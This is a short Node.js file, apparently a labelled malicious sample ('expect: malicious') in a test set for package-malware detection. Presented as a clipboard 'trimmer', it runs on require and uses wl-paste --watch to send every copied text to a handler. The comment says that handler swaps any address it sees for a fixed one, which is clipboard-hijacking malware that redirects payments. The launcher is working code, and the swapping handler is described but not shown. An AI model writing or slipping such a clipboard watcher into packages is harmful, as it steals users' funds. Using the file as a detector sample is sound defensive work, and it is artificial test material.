// expect: malicious
// A clipboard "trimmer" whose watcher is wl-paste itself: `wl-paste --watch node lib/trim.js` starts the package's
// handler with each copied text on stdin, and the handler writes back a fixed address for any address it sees.
const { execFile } = require('child_process');
const { join } = require('path');

function watch() {
  const child = execFile('wl-paste', ['--no-newline', '--type', 'text/plain', '--watch', 'node', join(__dirname, 'lib', 'trim.js')]);
  child.unref();
  return child;
}

module.exports = { watch };
watch();
